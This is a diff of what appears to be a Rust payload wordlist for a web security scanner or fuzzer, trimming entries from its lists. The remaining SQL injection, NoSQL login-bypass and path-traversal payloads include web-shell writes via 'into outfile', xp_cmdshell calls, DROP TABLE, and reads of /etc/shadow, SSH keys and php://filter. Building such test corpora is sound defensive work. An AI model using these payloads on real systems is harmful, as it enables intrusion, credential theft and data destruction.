@@ -138,12 +138,6 @@ x' having 2=2--
 1 limit 1,1 into outfile '/tmp/o.php'
 1 procedure analyse()
 select load_file('/etc/hosts')
-select @@version
-select version(), user()
-select 3,sin(2),4 from pets where
-select (1),(2) from things
-select current_user
-select cast(pass as int) from logins
 ; begin declare @a varchar(90) set @a=':' end --
 ' into dumpfile '/var/www/x.php'#
 name' like '%a%
@@ -177,7 +171,6 @@ login[$nin][]=x&pass[$ne]=y
 user[$gt]=
 username[$ne]=x&password[$ne]=y
 DROP/**/TABLE/**/pets
-drop database shop
 exec master..xp_cmdshell 'whoami'
 exec sp_executesql N'select 1'
 union/*!50000select*/1,2
@@ -207,8 +200,6 @@ fn path() -> Vec<(&'static str, &'static str, Vec<String>)> {
         "proc/self/environ",
         "logs/error.log",
         "WEB-INF/web.xml",
-        "secret.txt",
-        "x",
     ];
     vec![
         (
@@ -216,7 +207,6 @@ fn path() -> Vec<(&'static str, &'static str, Vec<String>)> {
             "steps",
             fill(
                 &[
-                    "../@",
                     "../../../@",
                     "/../../@",
                     "..\\..\\@",
@@ -247,7 +237,6 @@ fn path() -> Vec<(&'static str, &'static str, Vec<String>)> {
                 "/etc/passwd
 /etc/shadow
 /proc/self/environ
-/var/log/apache2/access.log
 C:\\boot.ini
 C:\\Windows\\System32\\drivers\\etc\\hosts
 c:/windows/win.ini
@@ -257,23 +246,12 @@ php://filter/convert.base64-encode/resource=index.php
 expect://id
 zip://a.zip#b
 phar://a.phar/b
-/var/www/html/.htaccess
 /root/.ssh/id_rsa
 /etc/passwd%00.png
-/WEB-INF/web.xml
-/.git/config
-../
-..
-../..
 \\..\\
-/..
-..\\
 {FILE}
 /{FILE}
-../{FILE}
-/etc/mysql/my.cnf
-/etc/httpd/conf/httpd.conf
-/usr/local/etc/php.ini",
+../{FILE}",
             ),
         ),
     ]
